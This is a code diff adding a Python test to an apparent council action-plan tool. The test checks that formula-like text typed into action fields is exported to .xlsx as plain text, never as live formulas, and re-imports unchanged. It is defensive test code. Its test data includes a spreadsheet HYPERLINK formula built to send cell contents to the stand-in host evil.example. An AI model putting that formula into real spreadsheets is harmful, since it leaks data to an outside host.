@@ -214,3 +214,24 @@ def test_xlsx_round_trip_edit_and_errors(db_url: str, tmp_path: Path) -> None:
             import_plan(s, p, ACTOR, today=TODAY)
         with session_scope(db_url) as s:
             assert s.get(Action, rows[0].id).owner == "Service manager, RAIT"  # nothing changed
+
+
+def test_text_a_council_types_never_runs_as_a_formula_in_the_export(db_url: str, tmp_path: Path) -> None:
+    """An action's owner and update typed as formulas arrive in the inspector's .xlsx as text, and the file
+    re-imports unchanged."""
+    import zipfile
+
+    iid = _inspection(db_url, "sif", [(t, "recommendations") for t in LUTON_2016], date(2016, 3, 29))
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Evidence")'
+    with session_scope(db_url) as s:
+        first = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)[0]
+        plan.update_action(s, first.id, ACTOR, owner="@SUM(1+1)", note=hostile, today=TODAY)
+    out = tmp_path / "plan.xlsx"
+    with session_scope(db_url) as s:
+        export_plan(s, "821", out, today=TODAY)
+    assert "<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
+    ws = load_workbook(out)["Action plan"]
+    values = {c.value for row in ws.iter_rows(min_row=5) for c in row}
+    assert {hostile, "@SUM(1+1)"} <= values
+    with session_scope(db_url) as s:
+        assert import_plan(s, out, ACTOR, today=TODAY).changed == []
